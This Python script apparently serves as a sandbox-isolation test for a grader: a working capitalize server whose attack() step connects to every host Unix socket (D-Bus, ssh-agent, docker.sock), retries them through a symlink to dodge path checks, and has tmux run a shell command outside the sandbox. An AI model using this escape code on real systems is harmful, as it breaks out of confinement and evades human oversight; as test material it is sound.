#!/usr/bin/env python3
"""A correct capitalize server that first tries to get out through the machine's Unix
sockets, as a program that runs as its grader's user could: every named socket in
/proc/net/unix (the D-Bus session bus, the systemd user manager, ssh-agent, docker.sock) and
every abstract one gets a connect(); through a tmux server's socket it asks tmux to run a
shell command, outside any sandbox, that writes `escaped` beside that socket; each named
socket is tried again through a link in its own folder. It says on stderr what each attempt
answered, then serves. Its own socketpair() must still work, and a Unix socket server of its
own in its folder too, wherever a Unix socket can be made.

Usage: server.py PORT
"""
import os
import socket
import subprocess
import sys


def tell(text):
    print(text, file=sys.stderr, flush=True)


def sockets():
    try:
        with open("/proc/net/unix") as f:
            lines = f.read().splitlines()[1:]
    except OSError:
        return []
    paths = []
    for line in lines:
        fields = line.split()
        if len(fields) >= 8 and fields[7] not in paths:
            paths.append(fields[7])
    return paths[:200]


def own_pair():
    """A socketpair of its own, which must work everywhere: else the server stops here."""
    a, b = socket.socketpair()
    a.sendall(b"pair")
    if b.recv(4) != b"pair":
        sys.exit("socketpair: broken")
    tell("socketpair: works")


def own_unix_server():
    """A Unix socket server of its own in its folder, connected to by a relative path: it must
    work wherever a Unix socket can be made at all (else the server stops here). Returns
    whether one could be made."""
    try:
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    except OSError as e:
        tell(f"socket(AF_UNIX): refused, errno {e.errno}")
        return False
    server.bind("own.sock")
    server.listen(1)
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.connect("own.sock")
    conn, _ = server.accept()
    client.sendall(b"own")
    if conn.recv(3) != b"own":
        sys.exit("own Unix socket: broken")
    for s in (conn, client, server):
        s.close()
    tell("own Unix socket: works")
    return True


def through_link(path):
    """The machine's socket by a link in its own folder, which a check of the path alone would
    take for its own."""
    try:
        os.symlink(path, "via-link")
    except OSError:
        return
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(0.5)
    try:
        s.connect("via-link")
        tell(f"connected through a link: {path}")
        if "tmux" in path:
            subprocess.run(["tmux", "-S", "via-link", "run-shell",
                            f"touch {path.rsplit('/', 1)[0]}/escaped"],
                           capture_output=True, timeout=5)
    except OSError as e:
        tell(f"refused through a link: {path}: errno {e.errno}")
    finally:
        s.close()
        os.unlink("via-link")


def attack():
    for path in sockets():
        address = "\0" + path[1:] if path.startswith("@") else path
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        except OSError as e:
            tell(f"socket(AF_UNIX): refused, errno {e.errno}")
            return
        s.settimeout(0.5)
        try:
            s.connect(address)
            tell(f"connected: {path}")
            s.sendall(b"AUTH EXTERNAL\r\n")
        except OSError as e:
            tell(f"refused: {path}: errno {e.errno}")
        finally:
            s.close()
        if not path.startswith("@"):
            through_link(path)
        if "tmux" in path and not path.startswith("@"):
            beside = path.rsplit("/", 1)[0] + "/escaped"
            ran = subprocess.run(["tmux", "-S", path, "run-shell", f"touch {beside}"],
                                 capture_output=True, timeout=5)
            tell(f"tmux run-shell: exit {ran.returncode}")


def main():
    own_pair()
    own_unix_server()
    try:
        attack()
    except Exception as e:  # the attack's failures are not the server's
        tell(f"attack stopped: {e!r}")
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("", int(sys.argv[1])))
    server.listen(5)
    while True:
        conn, _ = server.accept()
        with conn:
            data = b""
            while not data.endswith(b"\n"):
                chunk = conn.recv(1024)
                if not chunk:
                    break
                data += chunk
            conn.sendall(data.decode().upper().encode())


if __name__ == "__main__":
    main()
